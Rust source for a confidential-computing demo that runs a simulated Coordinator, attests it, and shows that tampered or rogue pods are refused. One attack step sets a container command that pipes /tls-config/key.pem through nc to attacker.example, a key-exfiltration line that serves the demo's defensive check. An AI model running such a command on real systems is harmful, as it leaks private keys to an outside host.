//! The demo's steps. Every step prints one line; waits show a spinner; the run fails (exit 1)
//! as soon as a step does not behave as expected.

use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow, bail};
use indicatif::{ProgressBar, ProgressStyle};
use nunki_kube::Resources;
use nunki_policy::{PodInput, PolicyDocument};
use nunki_runner::agent::{AgentError, ImageConfigs, SandboxContext, SimulatedAgent};
use nunki_runner::processes::{BuiltinImage, ContainerRun, Network, Processes};

use crate::builtin_images;

/// Flags of `nunki demo`.
#[derive(Debug, clap::Args)]
pub struct DemoArgs {
    /// Leave the Coordinator and the pods running and print commands to try by hand; Ctrl-C
    /// stops everything.
    #[arg(long)]
    pub keep: bool,
    /// Workspace directory (default: a new temporary directory, removed afterwards unless
    /// --keep).
    #[arg(long, value_name = "DIR")]
    pub workdir: Option<PathBuf>,
    /// Print how long each step took.
    #[arg(long)]
    pub timings: bool,
    /// Simulated platform directory (default: $NUNKI_SIM_DIR, else the user's data directory).
    #[arg(long = "sim-dir", env = "NUNKI_SIM_DIR", value_name = "DIR")]
    pub sim_dir: Option<PathBuf>,
}

const USER_API: &str = "127.0.0.1:1313";
const MESH_API: &str = "127.0.0.1:7777";
const METRICS: &str = "127.0.0.1:9102";
const WEB: &str = "127.0.0.1:8443";
const BACKEND: &str = "127.0.0.1:8444";
const WAIT: Duration = Duration::from_secs(60);

struct Demo {
    exe: PathBuf,
    work: PathBuf,
    sim_dir: PathBuf,
    processes: Processes,
    images: ImageConfigs,
    timings: Vec<(String, Duration)>,
    started: Instant,
}

/// Runs `nunki demo`.
pub fn run(a: DemoArgs) -> Result<ExitCode> {
    let (work, _temp) = match &a.workdir {
        Some(d) => {
            if d.exists() && std::fs::read_dir(d)?.next().is_some() {
                bail!(
                    "--workdir {} is not empty; the demo needs a fresh workspace",
                    d.display()
                );
            }
            std::fs::create_dir_all(d)?;
            (d.canonicalize()?, None)
        }
        None => {
            let t = tempfile::Builder::new().prefix("nunki-demo-").tempdir()?;
            (t.path().to_path_buf(), if a.keep { None } else { Some(t) })
        }
    };
    let work = if a.keep {
        // Keep the directory when the user wants to look around.
        let _ = _temp.map(tempfile::TempDir::keep);
        work
    } else {
        work
    };
    let sim_dir = match &a.sim_dir {
        Some(d) => d.clone(),
        None => nunki_attestation::sim::default_sim_dir()?,
    };
    let exe = std::env::current_exe().context("cannot find the nunki executable")?;
    let network = Network {
        user_api: parse(USER_API)?,
        mesh_api: parse(MESH_API)?,
        metrics: parse(METRICS)?,
        hosts: vec![
            ("backend".to_string(), std::net::Ipv4Addr::LOCALHOST.into()),
            ("web".to_string(), std::net::Ipv4Addr::LOCALHOST.into()),
        ],
    };
    for addr in [USER_API, MESH_API, METRICS, WEB, BACKEND] {
        if TcpStream::connect_timeout(&parse(addr)?, Duration::from_millis(200)).is_ok() {
            bail!(
                "{addr} is already in use (another `nunki demo --keep`?); stop it and run the demo again"
            );
        }
    }
    let images = ImageConfigs::from_json(&builtin_images::image_info_json(
        builtin_images::INITIALIZER,
    ))
    .map_err(anyhow::Error::msg)?;
    let mut demo = Demo {
        processes: Processes::new(exe.clone(), work.join("cluster"), sim_dir.clone(), network),
        exe,
        work,
        sim_dir,
        images,
        timings: Vec::new(),
        started: Instant::now(),
    };
    println!(
        "Nunki demo: SIMULATION. The simulated SEV-SNP platform stands in for AMD hardware and a \
         local runner for Kubernetes + Kata;\nit runs the real Coordinator, Initializer, CLI and \
         protocols, and proves the protocol, not isolation.\nworkspace: {}\n",
        demo.work.display()
    );
    let result = demo.steps(a.keep);
    if a.timings {
        println!("\ntimings:");
        for (step, d) in &demo.timings {
            println!("  {:>7.2} s  {step}", d.as_secs_f64());
        }
        println!("  {:>7.2} s  total", demo.started.elapsed().as_secs_f64());
    }
    match result {
        Ok(()) => {
            if a.keep {
                demo.keep_running()?;
            }
            println!("\nAll steps behaved as expected.");
            Ok(ExitCode::SUCCESS)
        }
        Err(e) => {
            println!("\nFAILED: {e:#}");
            for (pod, container, _, log) in demo.processes.list() {
                println!("  log of {pod}/{container}: {}", log.display());
            }
            Ok(ExitCode::FAILURE)
        }
    }
}

fn parse(addr: &str) -> Result<SocketAddr> {
    addr.parse().with_context(|| format!("bad address {addr}"))
}

fn spinner(msg: &str) -> ProgressBar {
    let pb = ProgressBar::new_spinner();
    pb.set_style(
        ProgressStyle::with_template("      {spinner} {msg} ({elapsed})")
            .unwrap_or_else(|_| ProgressStyle::default_spinner()),
    );
    pb.set_message(msg.to_string());
    pb
}

/// One workload of a generated YAML file, with its policy.
struct Pod {
    name: String,
    input: PodInput,
    policy: PolicyDocument,
}

fn load_pod(file: &Path) -> Result<Pod> {
    let resources = Resources::read(&[file.to_path_buf()]).map_err(anyhow::Error::msg)?;
    let workload = resources
        .workloads()
        .into_iter()
        .next()
        .ok_or_else(|| anyhow!("{}: no workload", file.display()))?;
    let policy = PolicyDocument::from_annotations(&resources.policy_annotations(&workload))
        .map_err(anyhow::Error::msg)?
        .ok_or_else(|| anyhow!("{}: no policy annotation; run generate", file.display()))?;
    Ok(Pod {
        name: workload.name().to_string(),
        input: workload.pod_input(),
        policy,
    })
}

fn container_runs(input: &PodInput, init: bool) -> Result<Vec<ContainerRun>> {
    let list = if init {
        input.spec.init_containers.clone().unwrap_or_default()
    } else {
        input.spec.containers.clone()
    };
    list.into_iter()
        .map(|c| {
            let image = c.image.clone().unwrap_or_default();
            let builtin = match image.as_str() {
                builtin_images::COORDINATOR => BuiltinImage::Coordinator,
                builtin_images::DEMO => BuiltinImage::DemoService,
                i if i == builtin_images::INITIALIZER => BuiltinImage::Initializer,
                other => bail!(
                    "container {}: the local runner only runs Nunki's built-in images, not {other}",
                    c.name
                ),
            };
            let mut args = c.command.clone().unwrap_or_default();
            args.extend(c.args.clone().unwrap_or_default());
            let env = c
                .env
                .clone()
                .unwrap_or_default()
                .into_iter()
                .filter_map(|e| e.value.map(|v| (e.name, v)))
                .collect();
            Ok(ContainerRun {
                name: c.name,
                image: builtin,
                args,
                env,
            })
        })
        .collect()
}

impl Demo {
    fn step<T>(&mut self, title: &str, f: impl FnOnce(&mut Self) -> Result<T>) -> Result<T> {
        println!("==> {title}");
        let t = Instant::now();
        let r = f(self);
        self.timings.push((title.to_string(), t.elapsed()));
        r.with_context(|| format!("step \"{title}\""))
    }

    fn nunki(&self, args: &[&str]) -> Result<String> {
        let out = Command::new(&self.exe)
            .args(args)
            .current_dir(&self.work)
            .env("NUNKI_SIM_DIR", &self.sim_dir)
            .output()
            .with_context(|| format!("cannot run nunki {}", args.join(" ")))?;
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        if !out.status.success() {
            bail!(
                "`nunki {}` failed ({}):\n{stdout}{stderr}",
                args.join(" "),
                out.status
            );
        }
        Ok(stdout)
    }

    fn steps(&mut self, keep: bool) -> Result<()> {
        self.step(
            "write the example resources (Coordinator, web, backend)",
            |d| {
                let dir = d.work.join("resources");
                std::fs::create_dir_all(&dir)?;
                for (name, yaml) in super::resources::files() {
                    std::fs::write(dir.join(name), yaml)?;
                    println!("    resources/{name}");
                }
                Ok(())
            },
        )?;
        self.step("nunki generate resources/ (policies + manifest)", |d| {
            let out = d.nunki(&["generate", "--reference-values", "simulated", "resources/"])?;
            for line in out.lines().filter(|l| l.contains("policy")) {
                println!("    {line}");
            }
            Ok(())
        })?;
        let coordinator = load_pod(&self.work.join("resources/coordinator.yaml"))?;
        self.step(
            "launch the Coordinator pod (simulated confidential VM)",
            |d| {
                d.launch(&coordinator, false)?;
                let pb = spinner("waiting for the Coordinator's user API");
                wait_port(USER_API, &pb, &mut d.processes)?;
                pb.finish_and_clear();
                println!("    Coordinator up: user API {USER_API}, mesh API {MESH_API}");
                Ok(())
            },
        )?;
        self.step(
            "nunki set -c 127.0.0.1:1313 -m manifest.json resources/ (attests the Coordinator)",
            |d| {
                let out = d.nunki(&[
                    "set",
                    "-c",
                    USER_API,
                    "-m",
                    "manifest.json",
                    "--workload-owner-key",
                    "workload-owner.pem",
                    "resources/",
                ])?;
                for line in out
                    .lines()
                    .filter(|l| l.contains("attested") || l.contains("manifest"))
                {
                    println!("    {}", line.trim());
                }
                Ok(())
            },
        )?;
        let backend = load_pod(&self.work.join("resources/backend.yaml"))?;
        let web = load_pod(&self.work.join("resources/web.yaml"))?;
        self.step(
            "launch backend and web: policy check, Initializer gets the mesh certificate",
            |d| {
                for pod in [&backend, &web] {
                    d.launch(pod, true)?;
                }
                let pb = spinner("waiting for web and backend to listen");
                wait_port(BACKEND, &pb, &mut d.processes)?;
                wait_port(WEB, &pb, &mut d.processes)?;
                pb.finish_and_clear();
                Ok(())
            },
        )?;
        self.step(
            "nunki verify -c 127.0.0.1:1313 -o verify/ (anyone can check the deployment)",
            |d| {
                let out = d.nunki(&[
                    "verify",
                    "-c",
                    USER_API,
                    "-o",
                    "verify/",
                    "-m",
                    "manifest.json",
                ])?;
                for line in out.lines().take(6) {
                    println!("    {}", line.trim());
                }
                Ok(())
            },
        )?;
        self.step(
            "HTTPS request to web with verify/mesh-root.pem as the only CA",
            |d| {
                let body = https_get(WEB, "web", &d.work.join("verify/mesh-root.pem"))?;
                for line in body.lines() {
                    println!("    | {line}");
                }
                if !body.contains("backend answered over mesh mTLS")
                    && !body.contains("backend:8444 answered over mesh mTLS")
                {
                    bail!("web's answer does not include the backend's: {body}");
                }
                Ok(())
            },
        )?;
        self.step(
            "attack 1: run web with a changed command (after generate)",
            |d| {
                let tampered = d.tampered_web(&web)?;
                match d.admit(&tampered) {
                    Err(e) if is_denied(&e) => {
                        println!("    refused by the pod's policy, as it must be:\n      {e}");
                        Ok(())
                    }
                    Err(e) => Err(anyhow!("expected a policy denial, got: {e}")),
                    Ok(()) => Err(anyhow!(
                        "the policy allowed a container whose command was changed"
                    )),
                }
            },
        )?;
        self.step(
            "attack 2: a pod with its own policy, not in the manifest, asks for a certificate",
            |d| {
                let rogue = d.rogue_pod()?;
                d.admit(&rogue)
                    .map_err(|e| anyhow!("its own policy should admit it: {e}"))?;
                let reason = d.expect_refusal(&rogue)?;
                println!("    the Coordinator refused it a mesh certificate:\n      {reason}");
                Ok(())
            },
        )?;
        if keep {
            println!(
                "\nEverything keeps running. Try:\n  cd {}\n  nunki verify -c {USER_API} -o verify/\n  \
                 curl --cacert verify/mesh-root.pem --resolve web:8443:127.0.0.1 https://web:8443/\n  \
                 curl http://{METRICS}/metrics\nCtrl-C stops everything.",
                self.work.display()
            );
        }
        Ok(())
    }

    /// Sends the pod's requests through the simulated agent.
    fn admit(&self, pod: &Pod) -> std::result::Result<(), AgentError> {
        let mut agent = SimulatedAgent::new(&pod.policy.policy_text)?;
        let ctx = SandboxContext::random(&pod.input);
        agent.run_pod(&pod.input, &self.images, &ctx).map(|_| ())
    }

    fn launch(&mut self, pod: &Pod, init_timeout: bool) -> Result<()> {
        self.admit(pod).map_err(anyhow::Error::msg)?;
        let host_data = pod.policy.hash.to_string();
        println!(
            "    {}: HOST_DATA {}…; the simulated agent allowed CreateSandbox and every CreateContainer",
            pod.name,
            host_data.get(..16).unwrap_or_default()
        );
        for c in container_runs(&pod.input, true)? {
            let pb = spinner(&format!("{}: init container {} running", pod.name, c.name));
            let timeout = if init_timeout {
                WAIT
            } else {
                Duration::from_secs(5)
            };
            self.processes
                .run_to_completion(&pod.name, &host_data, &c, timeout, || pb.tick())
                .map_err(anyhow::Error::msg)?;
            pb.finish_and_clear();
            println!(
                "    {}: {} wrote the mesh certificate to its tls-config volume",
                pod.name, c.name
            );
        }
        for c in container_runs(&pod.input, false)? {
            self.processes
                .start(&pod.name, &host_data, &c)
                .map_err(anyhow::Error::msg)?;
        }
        Ok(())
    }

    fn tampered_web(&self, web: &Pod) -> Result<Pod> {
        let mut input = web.input.clone();
        let c = input
            .spec
            .containers
            .first_mut()
            .ok_or_else(|| anyhow!("web has no container"))?;
        c.command = Some(vec![
            "/bin/sh".to_string(),
            "-c".to_string(),
            "cat /tls-config/key.pem | nc attacker.example 80".to_string(),
        ]);
        println!(
            "    web's command is now: /bin/sh -c 'cat /tls-config/key.pem | nc attacker.example 80'"
        );
        Ok(Pod {
            name: "web-tampered".to_string(),
            input,
            policy: web.policy.clone(),
        })
    }

    /// A modified web whose owner (the attacker) generated a policy of their own for it.
    fn rogue_pod(&self) -> Result<Pod> {
        let dir = self.work.join("attacker");
        std::fs::create_dir_all(&dir)?;
        let yaml = std::fs::read_to_string(self.work.join("resources/web.yaml"))?
            .replace("backend:8444", "attacker.example:443");
        std::fs::write(dir.join("web.yaml"), yaml)?;
        self.nunki(&[
            "generate",
            "-m",
            "attacker/manifest.json",
            "--disable-updates",
            "--reference-values",
            "simulated",
            "attacker/web.yaml",
        ])?;
        let pod = load_pod(&dir.join("web.yaml"))?;
        println!(
            "    web with --upstream attacker.example:443 and a freshly generated policy {}…",
            pod.policy.hash.to_string().get(..16).unwrap_or_default()
        );
        Ok(Pod {
            name: "web-rogue".to_string(),
            ..pod
        })
    }

    /// Runs the pod's Initializer and waits for the Coordinator's refusal in its log.
    fn expect_refusal(&mut self, pod: &Pod) -> Result<String> {
        let host_data = pod.policy.hash.to_string();
        let init = container_runs(&pod.input, true)?
            .into_iter()
            .next()
            .ok_or_else(|| anyhow!("no Initializer"))?;
        let pb = spinner("waiting for the Coordinator's answer");
        let log = self
            .processes
            .start(&pod.name, &host_data, &init)
            .map_err(anyhow::Error::msg)?
            .log
            .clone();
        let started = Instant::now();
        let reason = loop {
            pb.tick();
            let text = std::fs::read_to_string(&log).unwrap_or_default();
            if text.contains("received the mesh certificate") {
                break Err(anyhow!(
                    "the Coordinator issued a certificate to a pod not in the manifest"
                ));
            }
            if let Some(line) = text.lines().find(|l| l.contains("no mesh certificate yet")) {
                break Ok(refusal_reason(line));
            }
            if started.elapsed() > WAIT {
                break Err(anyhow!(
                    "no answer from the Coordinator within {} s; see {}",
                    WAIT.as_secs(),
                    log.display()
                ));
            }
            std::thread::sleep(Duration::from_millis(50));
        };
        pb.finish_and_clear();
        self.processes.stop_pod(&pod.name);
        reason
    }

    fn keep_running(&mut self) -> Result<()> {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        rt.block_on(async {
            let _ = tokio::signal::ctrl_c().await;
        });
        println!("stopping {} processes", self.processes.list().len());
        self.processes.stop_all();
        Ok(())
    }
}

fn is_denied(e: &AgentError) -> bool {
    matches!(e, AgentError::Denied { .. })
}

/// The `error=` field of the Initializer's log line, without ANSI colours.
fn refusal_reason(line: &str) -> String {
    let mut plain = String::new();
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            for c in chars.by_ref() {
                if c.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            plain.push(c);
        }
    }
    match plain.split_once("error=") {
        Some((_, rest)) => rest
            .split(" retry_in=")
            .next()
            .unwrap_or(rest)
            .trim()
            .to_string(),
        None => plain,
    }
}

fn wait_port(addr: &str, pb: &ProgressBar, processes: &mut Processes) -> Result<()> {
    let target = parse(addr)?;
    let started = Instant::now();
    loop {
        if TcpStream::connect_timeout(&target, Duration::from_millis(100)).is_ok() {
            return Ok(());
        }
        if let Some((pod, container, status, log)) = processes.exited().into_iter().next() {
            let tail = std::fs::read_to_string(&log).unwrap_or_default();
            bail!(
                "{pod}/{container} exited ({status}):\n{}",
                tail.lines()
                    .rev()
                    .take(5)
                    .collect::<Vec<_>>()
                    .into_iter()
                    .rev()
                    .collect::<Vec<_>>()
                    .join("\n")
            );
        }
        if started.elapsed() > WAIT {
            bail!("nothing listens on {addr} after {} s", WAIT.as_secs());
        }
        pb.tick();
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// GET / over HTTPS, trusting only the PEM certificates in `ca`.
fn https_get(addr: &str, server_name: &str, ca: &Path) -> Result<String> {
    use rustls::pki_types::pem::PemObject as _;
    use rustls::pki_types::{CertificateDer, ServerName};

    let pem = std::fs::read(ca).with_context(|| format!("cannot read {}", ca.display()))?;
    let mut roots = rustls::RootCertStore::empty();
    for c in CertificateDer::pem_slice_iter(&pem) {
        roots.add(c?)?;
    }
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()?
    .with_root_certificates(roots)
    .with_no_client_auth();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    rt.block_on(async {
        let tcp = tokio::net::TcpStream::connect(addr).await?;
        let tls = tokio_rustls::TlsConnector::from(Arc::new(config))
            .connect(ServerName::try_from(server_name.to_string())?, tcp)
            .await
            .context("TLS handshake with web (verified against mesh-root.pem)")?;
        let (mut sender, conn) =
            hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls)).await?;
        tokio::spawn(conn);
        let req = hyper::Request::get("/")
            .header("host", server_name)
            .body(http_body_util::Empty::<hyper::body::Bytes>::new())?;
        let resp = sender.send_request(req).await?;
        let status = resp.status();
        use http_body_util::BodyExt as _;
        let body = resp.into_body().collect().await?.to_bytes();
        let text = String::from_utf8_lossy(&body).into_owned();
        if !status.is_success() {
            bail!("web answered {status}: {text}");
        }
        Ok(text)
    })
}
